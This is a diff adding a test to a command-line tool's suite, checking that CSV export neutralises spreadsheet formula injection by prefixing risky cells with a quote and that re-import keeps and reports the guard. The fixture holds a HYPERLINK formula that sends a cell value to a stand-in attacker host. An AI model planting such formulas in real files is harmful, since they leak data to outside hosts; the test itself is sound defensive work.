@@ -187,3 +187,30 @@ def test_text_an_older_version_stored_is_shown_as_plain_text(cli):
         assert "\x1b" not in shown
     assert "I owe Zoë  repair invoice [2J [31mnow  needs reply" in cli.ok("list").out
     assert cli.ok("show", "1", "--json").json["title"] == "repair\ninvoice \x1b[2J\x1b[31mnow"  # kept as given
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_kept_as_text(cli, tmp_path):
+    rows = [{"direction": "received", "counterpart": name, "title": title,
+             "asked_at": "2026-11-23T08:00:00+01:00", "details": details}
+            for name, title, details in (("@eve", FORMULA, "-2+3"), ("Dana", "+1 for the offsite", ""),
+                                         ("Sam", "-5% discount", "@SUM(A1:A9)"))]
+    (tmp_path / "in.json").write_text(json.dumps(rows))
+    cli.ok("import", "in.json")
+    exported = cli.ok("export", "--format", "csv").out
+    import csv
+    import io
+
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'" + FORMULA in cells and "'@eve" in cells and "'-2+3" in cells
+    assert "'+1 for the offsite" in cells and "'@SUM(A1:A9)" in cells
+
+    # the way back keeps the guard, readable, and says so rather than undo it silently
+    (tmp_path / "out.csv").write_text(exported)
+    again = cli.ok("import", "out.csv", db=tmp_path / "other.db")
+    assert "Kept as written: a leading ' on lines 2, 3, 4" in again.out
+    titles = {r["title"] for r in cli.ok("list", "--json", db=tmp_path / "other.db").json}
+    assert titles == {"'" + FORMULA, "'+1 for the offsite", "'-5% discount"}
